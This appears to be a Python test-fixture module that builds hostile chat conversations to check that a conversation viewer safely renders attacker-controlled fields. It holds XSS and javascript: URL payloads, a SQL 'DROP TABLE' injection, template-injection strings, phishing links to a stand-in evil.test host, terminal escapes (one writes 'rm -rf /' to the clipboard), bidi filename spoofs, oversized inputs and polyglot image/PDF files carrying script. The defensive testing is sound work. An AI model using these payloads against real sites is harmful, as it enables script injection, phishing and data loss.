"""Conversations of an attacker who controls every field that a client can send.

What of them would run says so in `window.hacked` and in a dialog; what would fetch something
asks a place that is not there; what would deceive moves or hides letters.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from typing import Any

from convstore.messages import Message, Part
from tests.browser.conversations import SentConversation, in_base64, text
from tests.browser.media import GIF, JPEG, MP3, PNG, WAV, media
from tests.length import sampled

JS = "window.hacked=1;alert(1)"
ELSEWHERE = "//evil.test"

# --- Script and markup, each short enough to be the id of a conversation, a role, a type ---

SCRIPTS = [
    f"<script>{JS}</script>",
    f"</script><script>{JS}</script>",
    f'"><img src=x onerror="{JS}">',
    f"'><svg/onload='{JS}'>",
    f'" autofocus onfocus="{JS}" x="',
    f"' onmouseover='{JS}' x='",
    f"` onerror={JS} `",
    f"</textarea></title></style></noscript></template><body onload='{JS}'>",
    f"<iframe srcdoc='<script>parent.{JS}</script>'></iframe>",
    f"<iframe src='javascript:parent.{JS}'></iframe>",
    f"<object data='data:text/html,<script>{JS}</script>'></object>",
    f"<embed src='{ELSEWHERE}/movie.swf'>",
    f"<svg><script>{JS}</script><animate onbegin='{JS}' attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{JS}'><text y=9>click</text></a></svg>",
    f"<math><mi xlink:href='javascript:{JS}'>click</mi></math>",
    f"<details open ontoggle='{JS}'>",
    f"<audio src=x onerror='{JS}'><video><source onerror='{JS}'>",
    f"<a href='javascript:{JS}'>click</a>",
    f"<form action='{ELSEWHERE}'><input name=csrfmiddlewaretoken><button>Log in",
    f"<button form=changelist-form formaction='{ELSEWHERE}'>Go",
    f"<base href='{ELSEWHERE}/'>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/'>",
    f"<link rel=stylesheet href='{ELSEWHERE}/style.css'>",
    f"<style>@import '{ELSEWHERE}/style.css';*{{display:none}}</style>",
    "<p style='position:fixed;inset:0;background:#fff'>You are signed out.",
    f"<img src='{ELSEWHERE}/pixel.png' srcset='{ELSEWHERE}/x.png 2x'>",
    f"<!--><script>{JS}</script>-->",
    f"<![CDATA[<script>{JS}</script>]]>",
    f"<?xml-stylesheet href='javascript:{JS}'?>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"<noscript><p title='</noscript><img src=x onerror={JS}>'>",
    "<a id=content><a id=content name=django><input name=cookie id=hacked>",
    "{% debug %}{{ request.user.password }}{% include 'admin/base.html' %}",
    f"{{{{constructor.constructor('{JS}')()}}}}${{7*7}}#{{7*7}}<%= 7*7 %>",
    f"+ADw-script+AD4-{JS}+ADw-/script+AD4-",
    f"%3Cscript%3E{JS}%3C/script%3E &lt;script&gt;{JS}&#60;/script&#62;",
    f"\uff1cscript\uff1e{JS}\uff1c/script\uff1e",
    "'; DROP TABLE convstore_message; --",
]


def _everywhere(script: str) -> list[Message]:
    """Every field, filled with `script`."""
    call = {
        "id": script,
        "type": script,
        "function": {"name": script, "arguments": json.dumps({script: script})},
        script: script,
    }
    return [
        Message(script, [Part("text", script), Part(script, script)], {"tool_calls": [call]}),
        Message("tool", [Part("text", script)], {"tool_call_id": script}),
        Message("tool", [Part("text", script)], {"tool_call_id": f"no call {script}"}),
        Message(
            "assistant", [], {"tool_calls": [{"function": {"arguments": script}}, {script: 1}]}
        ),
    ]


def scripted() -> list[SentConversation]:
    return [SentConversation(script, _everywhere(script)) for script in SCRIPTS]


# --- Markdown ------------------------------------------------------------------------------

# Schemes that must not be followed, in the spellings that a browser takes for them.
ADDRESSES = [
    f"javascript:{JS}",
    f"JaVaScRiPt:{JS}",
    f"javascript&colon;{JS}",
    f"&#106;avascript:{JS}",
    f"&#x6A;&#x61;vascript:{JS}",
    f"java&Tab;script:{JS}",
    f"java&NewLine;script:{JS}",
    f"&#1;javascript:{JS}",
    f"\\javascript:{JS}",
    f"javascript\\:{JS}",
    f"%6Aavascript:{JS}",
    f"view-source:javascript:{JS}",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:null/1",
    "intent://evil.test/#Intent;end",
    f"data:text/html,<script>{JS}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg/onload=alert(1)>",
    "/admin/logout/",
    f"{ELSEWHERE}/x",
    "?text=raw",
]


def _links() -> Iterator[str]:
    for n, address in enumerate(ADDRESSES):
        yield (
            f"[inline {n}]({address}) [angled {n}](<{address}>)\n"
            f"[titled {n}]({address} 'a \"title\"')\n"
            f"[reference {n}][r{n}] [r{n}] ![image {n}]({address}) <{address}>\n"
            f"[![nested {n}]({address})]({address}) **[bold {n}]({address})**\n\n"
            f"[r{n}]: {address} (title)\n\n"
            f"| [cell {n}]({address}) |\n|---|\n| <a href='{address}'>raw</a> |\n\n"
            f"> - [deep {n}]({address})\n\nfootnote[^{n}]\n\n[^{n}]: [foot {n}]({address})\n"
        )


TRICKS = [
    f"[over\ntwo lines](java\nscript:{JS})",
    f"[tab](java\tscript:{JS})",
    f"[control](\x01javascript:{JS})",
    f"[title](https://good.test '\" onmouseover=\"{JS}')",
    f'[title](https://good.test "\'><script>{JS}</script>")',
    f"[text <img src=x onerror={JS}>](https://good.test)",
    f'[quote](https://good.test/"onmouseover="{JS})',
    f'<https://good.test/"onmouseover="{JS}>',
    f'https://good.test/"onmouseover="{JS}',
    f"![remote](http:{ELSEWHERE}/pixel.png)",
    f'![remote](http:{ELSEWHERE}/pixel.png "title" =1x1)',
    f"![][pixel]\n\n[pixel]: http:{ELSEWHERE}/pixel.png",
    f"```<script>{JS}</script>\ncode\n```",
    f'```js" onmouseover="{JS}\ncode\n```',
    f"~~~\n</code></pre><script>{JS}</script>",
    f"    </code></pre><script>{JS}</script>",
    f"`</code><script>{JS}</script>`",
    f"<pre>\n\n<script>{JS}</script>\n\n</pre>",
    f"<!-- \n\n--><script>{JS}</script>",
    f"a\n<script>\n{JS}\n</script>\nb",
    f"<div markdown=1 onclick='{JS}'>\n\n*x*\n\n</div>",
    f"$$\\href{{javascript:{JS}}}{{x}}$$",
    "# You are signed out\n\n[Sign in again](https://evil.test/admin/login/)",
]
GOOD_LINKS = "[web](https://good.test/a?b=c) [post](mailto:a@good.test) <http://good.test/>"


def linking() -> SentConversation:
    said = [*_links(), *TRICKS, GOOD_LINKS]
    return SentConversation("links", [text("assistant", each) for each in said])


# --- What acts on terminals and on the order of letters ------------------------------------

CONTROLS = {
    "colours": "\x1b[31;5mred\x1b[0m",
    "a cleared screen": "\x1b[2J\x1b[H\x1bc",
    "a title": "\x1b]0;hacked\x07",
    "a link": "\x1b]8;;http://evil.test\x1b\\click\x1b]8;;\x1b\\",
    "the clipboard": "\x1b]52;c;cm0gLXJmIC8K\x07",
    "an answer": '\x1b[6n\x1b[c\x1bP$q"p\x1b\\',
    "C1": "\x9b31mred\x9d0;hacked\x9c\x90\x85\x8d",
    "going back": "rm\x08\x08ls\rover\x7f\x7f",
    "a NUL": "before\0after",
    "all of C0": "".join(map(chr, range(0x20))),
    "all of C1": "".join(map(chr, range(0x7F, 0xA0))),
    "an override": "\u202egnp.exe\u202c",
    "an override that does not end": "photo \u202egpj.exe",
    "embeddings": "\u202aa\u202bb\u202dc",
    "a lone surrogate": "a\ud800b\udfffc",
}
# Not replaced, since texts need them, but kept where they are.
ISOLATES = {
    "isolates": "\u2067\u2066transfer\u2069 \u2066never\u2069\u2069",
    "an isolate that does not end": "\u2067one \u2066two",
    "marks": "a\u200eb\u200fc\u061cd",
    "no width": "ad\u200bmin\u2060\ufeff\u00adx\u180e",
    "separators": "one\u2028two\u2029three",
    "tags": "hidden\U000e0068\U000e0069",
}


def _of_controls(value: str) -> list[Message]:
    call = {"id": value, "function": {"name": value, "arguments": value}, "more": value}
    spelled = {"function": {"name": "json", "arguments": json.dumps({value: value})}}
    parts = [Part("text", value), Part(value, value), Part("image", f"https://good.test/{value}")]
    return [
        Message(value, parts, {"tool_calls": [call, spelled]}),
        Message("tool", [Part("text", value)], {"tool_call_id": value}),
    ]


def controlling() -> list[SentConversation]:
    """Control characters: the allowed ones in ids, and all of them in messages."""
    values = {**CONTROLS, **ISOLATES}
    in_ids = "\0\ud800\udfff"
    return [
        SentConversation(
            f"{name}: {value.translate(dict.fromkeys(map(ord, in_ids)))}", _of_controls(value)
        )
        for name, value in values.items()
    ]


# --- What would be shown as something else, or not at all ------------------------------------

SIGNED, REFUSED, MORE = "I signed it.", "Do not send it.", "and pay at once"
TWICE = '{"to": "mallory", "to": "alice"}'


def deceiving() -> SentConversation:
    """A call that looks like a part, a duplicate argument, a user who answers like a tool."""
    send = {"id": "c1", "type": "function", "function": {"name": "send", "arguments": TWICE}}
    beside = json.dumps({"url": "https://good.test/", "text": MORE})
    return SentConversation(
        "deceiving",
        [
            Message("assistant", [], {"tool_calls": [{"type": "text", "value": SIGNED}]}),
            Message("assistant", [], {"tool_calls": [send]}),
            Message("user", [Part("text", REFUSED)], {"tool_call_id": "c1"}),
            Message("user", [Part("note", beside)]),
        ],
    )


# --- Too much ------------------------------------------------------------------------------

LONG = "x" * 1_000_000


def _nested(depth: int) -> dict[str, Any]:
    value: dict[str, Any] = {"leaf": JS}
    for _ in range(depth):
        value = {"a": value}
    return value


def _called(arguments: str) -> Message:
    call = {"id": "1", "function": {"name": "f", "arguments": arguments}}
    return Message("assistant", [], {"tool_calls": [call]})


def excessive() -> list[SentConversation]:
    """Excessive content: very long, very deep, very many."""
    long_call = {"id": LONG, "function": {"name": LONG, "arguments": LONG}, "also": LONG}
    many = [Part("text", f"part {n}") for n in range(1_000)]
    calls = [{"id": str(n), "function": {"name": f"f{n}"}} for n in range(1_000)]
    wide = "[" * 900 + ",".join("1" * 500_000) + "]" * 900
    return [
        SentConversation("long text", [text("user", LONG), text("user", "W" * 9_999)]),
        SentConversation("long role", [Message(LONG, [Part("text", "hello")])]),
        SentConversation("long type", [Message("user", [Part(LONG, "hello")])]),
        SentConversation("long call", [Message("assistant", [], {"tool_calls": [long_call]})]),
        SentConversation(
            "long answer", [Message("tool", [Part("text", "7")], {"tool_call_id": LONG})]
        ),
        SentConversation("x" * 255, [text("user", "The longest id.")]),
        SentConversation("many parts", [Message("user", many)]),
        SentConversation("many calls", [Message("assistant", [], {"tool_calls": calls})]),
        SentConversation("deep call", [Message("assistant", [], {"tool_calls": [_nested(98)]})]),
        SentConversation(
            "deep arguments", [_called("[" * 100_000), _called("[" * 950 + "]" * 950)]
        ),
        SentConversation("deep part", [Message("user", [Part("image", '{"url":' * 50_000)])]),
        SentConversation("wide arguments", [_called(wide)]),
        SentConversation("many digits", [_called('{"n": ' + "9" * 10_000 + "}"), _called("1e999")]),
    ]


# --- Files that are something else -----------------------------------------------------------

PAGE = f"<!doctype html><html><body onload='parent.{JS}'><script>parent.{JS}</script>".encode()
SVG = (
    f"<svg xmlns='http://www.w3.org/2000/svg' onload='{JS}'><script>{JS}</script>"
    f"<image href='http:{ELSEWHERE}/pixel.png'/></svg>"
).encode()
SCRIPT = f"{JS};//".encode()
ZIP = base64.b64decode("UEsFBgAAAAAAAAAAAAAAAAAAAAAAAA==")
PDF = f"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.{JS})>>>>endobj\n".encode()
GIF_AND_SCRIPT = b"GIF89a/*" + b"\0" * 64 + f"*/=1;{JS}".encode()
NOTHING, TEXT = "application/octet-stream", "text/plain"


@dataclass(frozen=True)
class File:
    """A part's type, its value, and as what its bytes may be handed out.

    Bytes are sent in base64, behind those of a real photo or sound if one is named.
    """

    type: str
    value: str | bytes
    mime: str
    behind: str = ""

    def part(self) -> Part:
        if isinstance(self.value, str):
            return Part(self.type, self.value)
        return Part(self.type, in_base64((media(self.behind) if self.behind else b"") + self.value))


def data_url(mime: str, data: bytes) -> str:
    return f"data:{mime};base64,{in_base64(data)}"


FILES = {
    "an SVG": File("image", SVG, NOTHING),
    "an SVG by its type": File("image/svg+xml", SVG, NOTHING),
    "an SVG in a data: URL": File("image_url", data_url("image/svg+xml", SVG), NOTHING),
    "an SVG in letters": File("image", f"data:image/svg+xml,{SVG.decode()}", TEXT),
    "an SVG as text": File("image/svg+xml", SVG.decode(), TEXT),
    "HTML": File("image", PAGE, NOTHING),
    "HTML as PNG": File("image", data_url("image/png", PAGE), NOTHING),
    "HTML by its type": File("text/html", PAGE, TEXT),
    "HTML in a data: URL": File("text/html", data_url("text/html", PAGE), NOTHING),
    "HTML as text": File("text/html", PAGE.decode(), TEXT),
    "HTML after blanks": File("image", b"\n \t" + PAGE, NOTHING),
    "HTML in UTF-16": File("image", PAGE.decode().encode("utf-16"), NOTHING),
    "XHTML": File("file", b"<?xml version='1.0'?>" + PAGE, NOTHING),
    "script": File("text/javascript", SCRIPT.decode(), TEXT),
    "script as a file": File("file", SCRIPT, NOTHING),
    "script in a data: URL": File("x", data_url("text/javascript", SCRIPT), NOTHING),
    "a style": File("text/css", "*{display:none}", TEXT),
    "PDF": File("file", PDF, NOTHING),
    "PDF as an image": File("image", data_url("image/png", PDF), NOTHING),
    "GIF and script": File("image", GIF_AND_SCRIPT, "image/gif"),
    "GIF and HTML": File("image", PAGE, "image/gif", behind=GIF[0]),
    "PNG and HTML": File("image", PAGE, "image/png", behind=PNG[4]),
    "PNG's first bytes and HTML": File("image", b"\x89PNG\r\n\x1a\n" + PAGE, "image/png"),
    "JPEG and ZIP": File("image", ZIP, "image/jpeg", behind=JPEG[4]),
    "JPEG's first bytes and SVG": File("image", b"\xff\xd8\xff" + SVG, "image/jpeg"),
    "WEBP and script": File("image", b"/*RIFF*/WEBP=1;" + SCRIPT, "image/webp"),
    "AVIF and HTML": File("image", b"<!--ftypavif-->" + PAGE, "image/avif"),
    "MP3 and HTML": File("audio", b"ID3" + PAGE, "audio/mpeg"),
    "MP3 and more": File("audio", PAGE, "audio/mpeg", behind=MP3[0]),
    "WAV and HTML": File("audio", PAGE, "audio/wav", behind=WAV[1]),
    "WAV and script": File("audio", b"RIFF=1//WAVE\n" + SCRIPT, "audio/wav"),
    "OGG and HTML": File("audio", b"OggS" + PAGE, "audio/ogg"),
    "FLAC and HTML": File("audio", b"fLaC" + PAGE, "audio/flac"),
    "JSON that is none": File("image", '{"url": ["data:"], "data": 1}', TEXT),
    "JSON with HTML in it": File(
        "image_url", json.dumps({"url": data_url("image/png", PAGE)}), NOTHING
    ),
    "a link that is script": File("image_url", f"javascript:{JS}", TEXT),
    "a link behind a line": File("image_url", f"https://good.test/\njavascript:{JS}", TEXT),
    "a link to another": File("image_url", "https://bank.test@evil.test/", TEXT),
}


def with_files() -> SentConversation:
    """A message with all files; part n is the n-th file."""
    return SentConversation("files", [Message("user", [file.part() for file in FILES.values()])])


def all_of_them() -> Sequence[SentConversation]:
    several = (*scripted(), *controlling(), *excessive())
    return [*several, linking(), deceiving(), with_files()]


def some_of_them() -> Sequence[SentConversation]:
    """All of them; in a short run half of each kind. Each run takes others."""
    kinds = (scripted(), controlling(), excessive())
    several = [talk for kind in kinds for talk in sampled(kind, one_in=2)]
    return [*several, linking(), deceiving(), with_files()]
